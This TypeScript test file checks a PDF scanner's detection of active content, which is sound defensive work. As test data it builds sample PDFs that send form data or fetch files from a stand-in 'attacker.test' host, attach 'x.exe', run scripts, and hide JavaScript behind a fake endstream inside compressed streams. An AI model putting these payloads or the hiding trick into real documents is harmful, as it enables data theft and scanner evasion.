import { constants, deflateRawSync, deflateSync } from 'node:zlib';
import { expect, it } from 'vitest';
import { FileRejected } from './file-rejected.ts';
import { inspectPdf } from './pdf-content.ts';
import { objectStream, pdfOf, scripted } from './testing/small-pdfs.ts';

const content = `2 0 ${scripted}`;
const flate = '/Filter /FlateDecode';

/** Compresses `bytes`, preceded by the comment `%endstream`, which stays readable in the compressed data. */
function deflatedAfterEndstream(bytes: Buffer): Buffer {
  const keyword = Buffer.from('%endstream\n');
  return Buffer.concat([
    deflateSync(keyword, { level: 0, finishFlush: constants.Z_SYNC_FLUSH }),
    deflateRawSync(bytes),
    // The checksum of the keyword and the bytes.
    deflateSync(Buffer.concat([keyword, bytes])).subarray(-4),
  ]);
}

/** The active content that the inspection finds, or why it rejects the file. */
async function outcomeOf(objects: string): Promise<string | string[]> {
  try {
    return (await inspectPdf(pdfOf(objects))).activeContent;
  } catch (error) {
    if (error instanceof FileRejected) return error.reason;
    throw error;
  }
}

it('finds a script after the keyword `endstream` in the data of an object stream', async () => {
  expect(await outcomeOf(objectStream(content, flate, deflatedAfterEndstream))).toEqual(['JavaScript']);
});

it('finds a file that is attached to a page, even if the stream of the file has no type', async () => {
  const attachment = '2 0 obj << /Subtype /FileAttachment /FS << /F (x.exe) /EF << /F 3 0 R >> >> >> endobj';
  const file = '3 0 obj << /Length 1 >> stream\nx\nendstream endobj';
  expect(await outcomeOf(`${attachment}\n${file}`)).toEqual(['FileAttachment']);
});

it.each([
  ['sends a form', 'SubmitForm', '/AA << /O << /S /SubmitForm /F (http://attacker.test) >> >>'],
  ['links to a file on a network share', 'GoToR', '/AA << /O << /S /GoToR /F (//attacker.test/x) >> >>'],
  ['links to a file within a file', 'GoToE', '/OpenAction << /S /GoToE /F (//attacker.test/x) >>'],
  ['runs the script of a rendition', 'Rendition', '/OpenAction << /S /Rendition /JS (app.alert(1)) >>'],
  ['runs the script of a 3D model', 'OnInstantiate', '/Type /3D /OnInstantiate 3 0 R'],
  ['contains an XFA form', 'XFA', '/AcroForm << /Fields [] /XFA 3 0 R >>'],
])('finds active content that %s', async (_what, name, entries) => {
  expect(await outcomeOf(`2 0 obj << ${entries} >> endobj`)).toEqual([name]);
  expect(await outcomeOf(objectStream(`2 0 << ${entries} >>`, flate, deflateSync))).toEqual([name]);
});

it('accepts web links, links to pages, forms without scripts, and an incremental update that keeps the earlier content', async () => {
  const objects = `2 0 obj << /S /URI /URI (https://academy.test) >> endobj
    3 0 obj << /S /GoTo /D [0 /Fit] >> endobj
    4 0 obj << /AcroForm << /Fields [6 0 R] /DA (/Helv 0 Tf) >> >> endobj`;
  expect(await outcomeOf(objects)).toEqual([]);
  expect(await outcomeOf(`${objects} startxref\n9\n%%EOF\n${objects}`)).toEqual([]);
});

/** An object stream whose filter comes before text that looks like the beginning of an object. */
const filterBefore = (text: string) =>
  objectStream(content, '', deflateSync).replace('/Type', `${flate} /X ${text} /Type`);

it.each([
  ['the keyword `stream` in a string', objectStream(content, `/X (stream) ${flate}`, deflateSync)],
  ['a filter before ` obj` in a string', filterBefore('(a obj <<)')],
  ['a filter before ` obj` in a comment', filterBefore('% obj <<\n')],
  ['a filter before ` obj` in the dictionary', filterBefore('\n5 0 obj <<')],
  [
    'two filters',
    objectStream(content, '/Filter [/FlateDecode /ASCIIHexDecode]', (bytes) =>
      deflateSync(bytes.toString('hex')),
    ),
  ],
  ['a predictor', objectStream('2 0', `${flate} /DecodeParms << /Predictor 12 >>`, deflateSync)],
])('rejects an object stream with %s', async (_what, objects) => {
  expect(await outcomeOf(objects)).toBe('unreadable');
});
